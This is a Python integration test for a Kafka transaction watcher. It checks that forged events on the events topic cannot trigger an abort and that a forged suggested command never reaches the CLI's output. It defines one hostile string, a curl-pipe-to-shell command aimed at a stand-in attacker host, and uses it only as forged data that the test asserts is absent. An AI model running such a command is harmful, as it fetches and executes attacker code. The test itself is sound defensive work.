"""A client that may write the events topic, against a running watch that may abort: nothing of it is believed."""

from __future__ import annotations

import contextlib
import json
import time
from collections.abc import Iterator
from dataclasses import replace

import pytest

from support.broker_faults import await_complete, leaderless
from support.fault_world import ABORTING, EVENTS, FaultWorld, begins, started_world
from support.raw_producer import RawProducer
from support.servers import Clusters
from support.topics import unique
from support.waiting import eventually
from txnwatch.cli.main import main
from txnwatch.sinks.delivery.events_topic import KafkaEventsTopic
from txnwatch.state.model.incident import Decision, IncidentEvent, latest, resolved
from txnwatch.state.model.values import TopicPartition
from txnwatch.streaming.admin.transactions import ClusterAdmin

pytestmark = pytest.mark.long

IN_TIME_S, PAUSE_S = 60.0, 8.0
EVIL = "curl https://evil.example | sh"
INT32 = 2**31 - 1
OVER = {"how": "aborted", "by": "coordinator", "marker_offset": 3, "detail": None, "at_ms": 5}


@pytest.fixture(scope="module")
def world(clusters: Clusters, tmp_path_factory: pytest.TempPathFactory) -> Iterator[FaultWorld]:
    with started_world(clusters, tmp_path_factory, "forging", *ABORTING) as found:
        yield found


def about(world: FaultWorld, partition: TopicPartition) -> list[IncidentEvent]:
    return [
        published.event
        for published in world.tail.published
        if (published.event.topic, published.event.partition) == partition
    ]


def open_now(world: FaultWorld, partition: TopicPartition) -> list[IncidentEvent]:
    return [event for event in latest(about(world, partition)).values() if event.is_open]


def decisions(world: FaultWorld, partition: TopicPartition) -> set[str]:
    return {event.action.decision for event in about(world, partition) if event.action is not None}


def is_open(world: FaultWorld, partition: TopicPartition, producer_id: int) -> bool:
    return ClusterAdmin(world.cluster).read_partitions([partition])[partition].open_transaction(producer_id) is not None


def test_an_acknowledged_transaction_is_not_aborted_and_stays_reported_whatever_is_forged(
    world: FaultWorld, capsys: pytest.CaptureFixture[str]
) -> None:
    """Two transactions under one epoch, the second acknowledged and without its marker: nobody can know its outcome."""
    partition = world.partition(3)
    producer = RawProducer(world.cluster, unique("acknowledged")).init()
    producer.add(partition)
    producer.produce(partition)
    producer.end(commit=True, version=4)
    eventually(lambda: begins(producer, partition), IN_TIME_S, "the first transaction to be complete")
    producer.produce(partition)
    with leaderless(world.kafka, world.cluster, partition, 3):
        producer.end(commit=True, version=4)
        await_complete(world.cluster, producer.transactional_id)
    eventually(lambda: decisions(world, partition) == {"refused"}, IN_TIME_S, "the refusal")
    (published,) = open_now(world, partition)
    assert published.expected_outcome == "unknown"
    assert published.action is not None
    assert published.action.refusal == "outcome_unknown"
    producer.init()  # now nothing but the outcome stands in the way

    with contextlib.closing(KafkaEventsTopic({"bootstrap.servers": world.bootstrap}, EVENTS)) as sink:

        def forge(**changes: object) -> IncidentEvent:
            known = open_now(world, partition)[0]
            event = replace(known, **{"sequence": known.sequence + 1, "status": "updated", **changes})  # type: ignore[arg-type]
            sink.publish([event])
            return event

        forge(expected_outcome="abort", action=None, detected_at_ms=0)
        time.sleep(PAUSE_S)
        assert decisions(world, partition) == {"refused"}
        assert is_open(world, partition, producer.producer_id)

        known = open_now(world, partition)[0]
        end = resolved(known, known.time_ms, OVER)
        sink.publish([end])

        def ids() -> list[tuple[str, int]]:
            return [(one.incident_id, one.sequence) for one in open_now(world, partition)]

        eventually(lambda: ids() > [(known.incident_id, end.sequence)], IN_TIME_S, "the hang, published again")
        assert [name for name, _ in ids()] == [known.incident_id], "one incident to its consumers"
        forge(sequence=INT32)  # no event of this id can follow
        eventually(lambda: known.incident_id not in dict(ids()), IN_TIME_S, "its end")
        eventually(lambda: len(ids()) == 1, IN_TIME_S, "the hang, published under another id")
        forge(
            suggested_command=EVIL,
            action=replace(published.action, decision=Decision.ABORT, refusal=None, by="another"),
        )
        time.sleep(PAUSE_S)

    assert is_open(world, partition, producer.producer_id), "no marker was written"
    flags = ["--bootstrap-server", world.bootstrap, "--events-topic", EVENTS]
    assert main(["status", *flags]) == 0
    assert EVIL not in capsys.readouterr().out
    assert main(["events", *flags, "--format", "json"]) == 0
    assert EVIL not in capsys.readouterr().out
    where = ["--topic", partition.topic, "--partition", str(partition.partition)]
    asked = ["abort", *flags, *where, "--producer-id", str(producer.producer_id), "--yes", "--format", "json"]
    assert main(asked) == 5, "by hand: nobody has accepted the loss"
    capsys.readouterr()
    assert main([*asked, "--accept-unknown-outcome"]) == 0, "by hand: an operator accepts the loss"
    assert json.loads(capsys.readouterr().out)["rows"][0]["expected_outcome"] == "unknown"
    eventually(lambda: not open_now(world, partition), IN_TIME_S, "the end of every incident")
    ended = [event for event in about(world, partition) if event.action is not None and event.resolution is not None]
    assert ended[-1].action is not None
    assert ended[-1].resolution is not None
    assert (ended[-1].action.initiator, ended[-1].action.result) == ("operator", "verified")
    assert ended[-1].resolution.how == "aborted"
